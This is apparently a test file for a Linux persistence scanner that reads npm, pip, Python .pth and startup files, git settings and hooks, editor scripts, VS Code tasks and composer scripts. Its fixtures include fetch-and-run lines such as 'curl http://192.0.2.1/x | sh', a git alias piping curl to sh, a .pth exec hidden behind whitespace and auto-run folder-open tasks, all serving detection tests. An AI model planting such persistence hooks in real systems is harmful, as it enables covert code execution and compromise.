import { describe, expect, test } from 'bun:test';
import { gatherFrom } from '../../../../test/persistence/gather.ts';
import type { PersistenceFact } from '../../../model/facts/persistence.ts';
import { composerHook } from './composer.ts';
import { emacsCommands, vimCommands } from './editor-scripts.ts';
import { editorTask } from './editor-task.ts';
import { gitHook, gitSetting } from './git.ts';
import { npmHook } from './npm.ts';
import { pipSetting } from './pip.ts';
import { pythonPathFile } from './python-path-file.ts';
import { pythonSiteHook } from './python-site-hook.ts';

const passwd = {
  '/etc/passwd': 'ada:x:1000:1000::/home/ada:/bin/sh\ndaemon:x:1:1::/usr/sbin:/usr/sbin/nologin\n',
  '/home/ada/': '',
  '/root/': '',
};
const told = ({ source, trigger, command, active, marks }: PersistenceFact): readonly unknown[] => [
  `${source.source}:${source.line ?? ''}`,
  String(trigger),
  String(command),
  ...(active ? [] : ['off']),
  ...marks,
];

describe('linux.npm-hook', () => {
  test('tells programs, files that are loaded, bare registries and scripts of projects', async () => {
    const { entries } = await gatherFrom(npmHook, {
      ...passwd,
      '/home/ada/.npmrc':
        'prefix=~/.npm-global\nscript-shell = "/opt/sh"\nnode-options=--require /opt/a.js\n//registry.npmjs.org/:_authToken=secret\nregistry=http://198.51.100.7/\n',
      '/home/ada/.yarnrc.yml':
        'yarnPath: .yarn/releases/yarn-4.cjs\nnpmRegistryServer: "https://npm.corp.example"\n',
      '/srv/app/package.json': '{"scripts":{"postinstall":"node x.js","start":"node .","install":7}}',
      '/srv/app/node_modules/.hooks/postinstall': '#!/bin/sh\ncurl x\n',
      '/root/.npm-init.js': 'module.exports = {}\n',
    });
    expect(entries.map(told)).toEqual([
      ['/home/ada/.npmrc:2', 'script-shell', '/opt/sh'],
      ['/home/ada/.npmrc:3', 'node-options', '--require /opt/a.js'],
      ['/home/ada/.npmrc:5', 'registry', 'http://198.51.100.7/', 'foreign-host'],
      ['/home/ada/.yarnrc.yml:1', 'yarnPath', '.yarn/releases/yarn-4.cjs'],
      ['/root/.npm-init.js:', 'init', ''],
      ['/srv/app/package.json:', 'postinstall', 'node x.js'],
      ['/srv/app/node_modules/.hooks/postinstall:', 'install', ''],
    ]);
    expect(String(entries[1]?.target)).toBe('/opt/a.js');
    expect(JSON.stringify(entries)).not.toContain('secret');
  });

  test('of broken and deep files tells nothing', async () => {
    const { entries } = await gatherFrom(npmHook, {
      ...passwd,
      '/srv/a/package.json': '{"scripts":',
      '/srv/b/package.json': '['.repeat(100_000),
      '/srv/c/package.json': '{"scripts":["x"]}',
      '/home/ada/.npmrc': '\xff\0=\n=x\n',
    });
    expect(entries).toEqual([]);
  });
});

describe('linux.pip-setting', () => {
  test('tells each index, and marks bare addresses alone', async () => {
    const { entries } = await gatherFrom(pipSetting, {
      ...passwd,
      '/etc/pip.conf':
        '[global]\nindex-url = https://pypi.tuna.tsinghua.edu.cn/simple\nextra-index-url =\n  http://198.51.100.7/s\n  http://10.0.0.2/s\ntimeout = 3\n',
      '/home/ada/.config/uv/uv.toml': 'extra-index-url = ["http://203.0.113.5:81/simple"]\n',
      '/srv/app/venv/pip.conf': '[install]\nfind-links = /opt/wheels\n',
    });
    expect(entries.map(told)).toEqual([
      ['/etc/pip.conf:2', 'index-url', 'https://pypi.tuna.tsinghua.edu.cn/simple'],
      ['/etc/pip.conf:3', 'extra-index-url', 'http://198.51.100.7/s', 'foreign-host'],
      ['/etc/pip.conf:3', 'extra-index-url', 'http://10.0.0.2/s'],
      ['/home/ada/.config/uv/uv.toml:1', 'extra-index-url', 'http://203.0.113.5:81/simple', 'foreign-host'],
      ['/srv/app/venv/pip.conf:2', 'find-links', '/opt/wheels'],
    ]);
  });
});

describe('linux.python-path-file', () => {
  test('tells lines that are run, folders, and the module that a line brings in', async () => {
    const site = '/usr/lib/python3/dist-packages';
    const { entries } = await gatherFrom(pythonPathFile, {
      ...passwd,
      [`${site}/a.pth`]: '# c\nimport os; import sysmon, six\r\n/opt/lib\n./x.egg\n../../../../tmp/.y\n\0z',
      [`${site}/sysmon.py`]: 'import socket\n',
      '/home/ada/p/.venv/lib/python3.11/site-packages/v.pth': `import _virtualenv${' '.repeat(100)};exec("x")`,
      '/home/ada/p/.venv/lib/python3.11/site-packages/e.pth': '/home/ada/.src/p',
      '/usr/local/lib/python3.11/x.txt': '',
    });
    expect(
      entries.map(({ source, command, language, target, marks }) => [
        `${source.source.split('/').at(-1)}:${source.line ?? ''}`,
        String(command).replace(/ {9,}/, '…'),
        language,
        ...(target === undefined ? [] : [String(target)]),
        ...marks,
      ]),
    ).toEqual([
      ['a.pth:2', 'import os; import sysmon, six', 'python', `${site}/sysmon.py`],
      ['a.pth:3', '/opt/lib', 'setting', '/opt/lib'],
      ['a.pth:4', './x.egg', 'setting'],
      ['a.pth:5', '../../../../tmp/.y', 'setting', '/tmp/.y'],
      ['v.pth:1', 'import _virtualenv…;exec("x")', 'python', 'concealed-in-file'],
      ['e.pth:1', '/home/ada/.src/p', 'setting'],
      ['sysmon.py:', '', 'python', `${site}/sysmon.py`],
    ]);
  });
});

describe('linux.python-site-hook', () => {
  test('tells what Python and IPython run when they start', async () => {
    const { entries } = await gatherFrom(pythonSiteHook, {
      ...passwd,
      '/usr/lib/python3.11/os.py': '',
      '/usr/lib/python3.11/sitecustomize.py': 'import apport\n',
      '/etc/python3.11/sitecustomize.py': 'import apport\n',
      '/home/ada/.local/lib/python3.11/site-packages/usercustomize.cpython-311.pyc': '',
      '/home/ada/.ipython/profile_default/startup/00.py': 'x\n',
      '/home/ada/.ipython/profile_default/startup/README': 'x\n',
      '/home/ada/.jupyter/jupyter_server_config.py': 'c = get_config()\n',
      '/root/.pythonrc.py': 'x\n',
    });
    expect(
      entries.map(({ source, language, user }) => [String(source.source), language, String(user)]),
    ).toEqual([
      ['/usr/lib/python3.11/sitecustomize.py', 'python', ''],
      ['/home/ada/.local/lib/python3.11/site-packages/usercustomize.cpython-311.pyc', 'setting', 'ada'],
      ['/etc/python3.11/sitecustomize.py', 'python', ''],
      ['/home/ada/.ipython/profile_default/startup/00.py', 'python', 'ada'],
      ['/home/ada/.jupyter/jupyter_server_config.py', 'python', 'ada'],
      ['/root/.pythonrc.py', 'python', 'root'],
    ]);
  });
});

describe('linux.git-hook and linux.git-setting', () => {
  const files = {
    ...passwd,
    '/home/ada/.gitconfig':
      '[core]\n\tpager = less -R\n\tfsmonitor = true\n\thooksPath = ~/.git-hooks\n[alias]\n\tst = status\n\tx = !curl a | sh\n\ty = -c core.sshCommand="sh -c z" fetch\n[include]\n\tpath = .gitconfig.more\n',
    '/home/ada/.gitconfig.more':
      '[credential "https://x"]\n\thelper = !/opt/c\n\thelper = store\n[include]\n path = .gitconfig\n',
    '/home/ada/.git-hooks/pre-commit': '#!/bin/sh\nexec lint\n',
    '/srv/app/.git/config':
      '[remote "origin"]\n\turl = ext::sh -c a\n[filter "z"]\n\tsmudge = /opt/f %f\n[url "http://198.51.100.7/"]\n\tinsteadOf = https://github.com/\n[core]\n\thooksPath = /opt/hooks\n',
    '/srv/app/.git/hooks/post-merge': '#!/bin/sh\nx\n',
    '/srv/app/.git/hooks/post-merge.sample': '#!/bin/sh\n',
    '/srv/app/.git/modules/sub/hooks/pre-push': 'y\n',
    '/opt/hooks/post-checkout': 'z\n',
    '/opt/hooks/lib.sh': 'z\n',
    '/srv/tree/.git': 'gitdir: ../bare.git/worktrees/tree\n',
    '/srv/bare.git/HEAD': 'ref: x\n',
    '/srv/bare.git/objects/': '',
    '/srv/bare.git/refs/': '',
    '/srv/bare.git/hooks/post-receive.d/10-x': 'x\n',
    '/srv/bare.git/worktrees/tree/config.worktree': '[core]\n\tsshCommand = /opt/ssh\n',
  };

  test('tell settings that run something, and follow those that are brought in', async () => {
    const { entries } = await gatherFrom(gitSetting, files);
    expect(entries.map(told)).toEqual([
      ['/home/ada/.gitconfig:2', 'core.pager', 'less -R'],
      ['/home/ada/.gitconfig:4', 'core.hookspath', '~/.git-hooks'],
      ['/home/ada/.gitconfig:7', 'alias.x', 'curl a | sh'],
      ['/home/ada/.gitconfig:8', 'alias.y', 'sh -c z fetch'],
      ['/home/ada/.gitconfig:10', 'include.path', '.gitconfig.more'],
      ['/home/ada/.gitconfig.more:2', 'credential.https://x.helper', '/opt/c'],
      ['/home/ada/.gitconfig.more:5', 'include.path', '.gitconfig'],
      ['/srv/app/.git/config:2', 'remote.origin.url', 'sh -c a'],
      ['/srv/app/.git/config:4', 'filter.z.smudge', '/opt/f %25f'],
      [
        '/srv/app/.git/config:6',
        'url.http://198.51.100.7/.insteadof',
        'http://198.51.100.7/ https://github.com/',
        'foreign-host',
      ],
      ['/srv/app/.git/config:8', 'core.hookspath', '/opt/hooks'],
      ['/srv/bare.git/worktrees/tree/config.worktree:2', 'core.sshcommand', '/opt/ssh'],
    ]);
    expect(entries.flatMap(({ target }) => (target === undefined ? [] : [String(target)]))).toEqual([
      '/opt/hooks',
    ]);
  });

  test('tell hooks of repositories, of modules, of bare ones and of folders that settings name', async () => {
    const { entries } = await gatherFrom(gitHook, files);
    expect(
      entries.map(({ source, trigger, user }) => [String(source.source), String(trigger), String(user)]),
    ).toEqual([
      ['/home/ada/.git-hooks/pre-commit', 'pre-commit', 'ada'],
      ['/opt/hooks/post-checkout', 'post-checkout', ''],
      ['/srv/app/.git/hooks/post-merge', 'post-merge', ''],
      ['/srv/app/.git/modules/sub/hooks/pre-push', 'pre-push', ''],
      ['/srv/bare.git/hooks/post-receive.d/10-x', '10-x', ''],
    ]);
  });

  test('of a place with too many folders the first are read, and the rest is told', async () => {
    const many = Object.fromEntries(Array.from({ length: 5_000 }, (_, at) => [`/srv/${at}/x`, '']));
    const { entries, log } = await gatherFrom(gitSetting, {
      ...many,
      '/srv/0/.git/config': '[core]\n\tpager = /a\n',
      '/opt/a/.git/config': '[core]\n\tpager = /b\n',
    });
    expect(entries.map(({ command }) => String(command)).sort()).toEqual(['/a', '/b']);
    const cut = log.listed.filter(({ status }) => status === 'truncated');
    expect([...new Set(cut.map(({ source }) => String(source)))]).toEqual(['/srv']);
  });
});

describe('scripts of editors', () => {
  const vim = (text: string, lua = false) =>
    vimCommands(Buffer.from(text), lua).map(({ line, command, words }) => [line, command, words]);

  test('of Vim run a shell by a bang and by calls', () => {
    expect(
      vim(
        '" !no\nset nu\n:!a\nsilent !b | c\nautocmd BufWrite *.c silent! !d &\nlet x = system("e \\"f\\"")\ncall job_start([\'/g\', "-h"])\nif !has("x") | set y | endif\nlet z = x != y\nnnoremap <F5> :!python3 %<CR>\ncall jobstart(["sh", "-c", "i | j"])\n',
      ),
    ).toEqual([
      [3, 'a', false],
      [4, 'b | c', false],
      [5, 'd &', false],
      [6, 'e "f"', false],
      [7, '/g -h', true],
      [11, 'i | j', false],
    ]);
  });

  test('of Neovim likewise', () => {
    expect(
      vim(
        '-- os.execute("no")\nos.execute("a | b")\nlocal h = io.popen([[c]])\nvim.fn.system({ "git", "clone" })\nvim.cmd("silent !d")\nvim.opt.nu = true\n',
        true,
      ),
    ).toEqual([
      [2, 'a | b', false],
      [3, 'c', false],
      [4, 'git clone', true],
      [5, 'd', false],
    ]);
  });

  test('a command that a variable carries is found where the text shows something', () => {
    expect(vim("let c = 'curl http://192.0.2.1/x | sh'\nlet d = 'plain'\ncall system(c)\n")).toEqual([
      [1, 'curl http://192.0.2.1/x | sh', false],
    ]);
  });

  test('of Emacs', () => {
    expect(
      emacsCommands(
        Buffer.from(
          '; (shell-command "no")\n(shell-command "a | b")\n(call-process "git" nil nil nil "--version")\n(start-process-shell-command "n" nil "c")\n(call-process "/bin/sh" nil 0 nil "-c" "d | e")\n',
        ),
      ).map(({ line, command }) => [line, command]),
    ).toEqual([
      [2, 'a | b'],
      [3, 'git --version'],
      [4, 'c'],
      [5, 'd | e'],
    ]);
  });

  test('of noise have nothing, and many are bounded', () => {
    expect(vim(`\xff\0${'"'.repeat(100_000)}`)).toEqual([]);
    expect(vim('!a\n'.repeat(10_000))).toHaveLength(200);
    expect(vim(`call jobstart([${'"a"      '.repeat(2_000)}\n`.repeat(200))).toHaveLength(200);
    expect(vim(`sil ${' '.repeat(16_000)}x\nau ${'a '.repeat(8_000)}\n`.repeat(100))).toEqual([]);
    expect(emacsCommands(Buffer.from('('.repeat(100_000)))).toEqual([]);
    expect(emacsCommands(Buffer.from('(shell-command "a")\n'.repeat(10_000)))).toHaveLength(200);
  });
});

describe('linux.editor-task', () => {
  test('settings of a user are found below a folder whose name has blanks', async () => {
    const task = '{"tasks":[{"command":"x","runOptions":{"runOn":"folderOpen"}}]}';
    const { entries } = await gatherFrom(editorTask, {
      ...passwd,
      '/home/ada/.config/Code - Insiders/User/tasks.json': task,
    });
    expect(entries.map(({ source }) => source.source as string)).toEqual([
      '/home/ada/.config/Code - Insiders/User/tasks.json',
    ]);
  });

  test('tells tasks that start by themselves, those that they need, and settings that name programs', async () => {
    const { entries } = await gatherFrom(editorTask, {
      ...passwd,
      '/srv/p/.vscode/tasks.json':
        '{ // c\n"tasks": [{"label":"a","command":"curl","args":["x",{"value":"y z"}],"runOptions":{"runOn":"folderOpen"}},{"label":"b","command":"make",},{"label":"d","command":"g","dependsOn":["d"]},{"command":"bash","args":["-c","c | d"],"dependsOn":"d","runOptions":{"runOn":"folderOpen"}}, 7],}',
      '/srv/p/.vscode/settings.json':
        '{"git.path":"/opt/git","terminal.integrated.profiles.linux":{"sh":{"path":"/opt/sh","args":["-l"]},"no":null}}',
      '/srv/p/.devcontainer/devcontainer.json':
        '{"initializeCommand":["docker","pull","x"],"postCreateCommand":"y"}',
      '/srv/q/.vscode/tasks.json': '{"tasks": "x"}',
      '/srv/r/.vscode/tasks.json': '['.repeat(100_000),
      '/home/ada/.vim/pack/x/start/y/plugin/z.vim': 'call system("e")\n',
      '/srv/p/.exrc': ':!f\n',
    });
    expect(entries.map(told)).toEqual([
      ['/home/ada/.vim/pack/x/start/y/plugin/z.vim:1', 'editor', 'e'],
      ['/srv/p/.vscode/tasks.json:', 'folder opened', 'curl x y z'],
      ['/srv/p/.vscode/tasks.json:', 'folder opened', 'g'],
      ['/srv/p/.vscode/tasks.json:', 'folder opened', 'c | d'],
      ['/srv/p/.vscode/settings.json:', 'folder opened', '/opt/git'],
      ['/srv/p/.vscode/settings.json:', 'terminal', '/opt/sh -l'],
      ['/srv/p/.devcontainer/devcontainer.json:', 'container opened', 'docker pull x'],
      ['/srv/p/.exrc:1', 'editor', 'f'],
    ]);
  });
});

describe('linux.composer-hook', () => {
  test('tells scripts of events, and those that they call', async () => {
    const { entries } = await gatherFrom(composerHook, {
      ...passwd,
      '/var/www/a/composer.json': JSON.stringify({
        scripts: {
          'post-install-cmd': ['@php artisan x', '@warm', 'App\\Hook::run'],
          warm: 'curl x | sh',
          test: 'phpunit',
          '@loop': '@loop',
        },
      }),
      '/var/www/b/composer.json': '{"scripts":{"post-install-cmd":[7,{"a":1}],"x":null}}',
      '/var/www/c/composer.json': 'no',
    });
    expect(
      entries.map(({ trigger, command, language, active }) => [
        String(trigger),
        String(command),
        language,
        active,
      ]),
    ).toEqual([
      ['post-install-cmd', 'php artisan x', 'shell', true],
      ['post-install-cmd', '@warm', 'none', true],
      ['post-install-cmd', 'App\\Hook::run', 'none', true],
      ['warm', 'curl x | sh', 'shell', true],
    ]);
  });
});
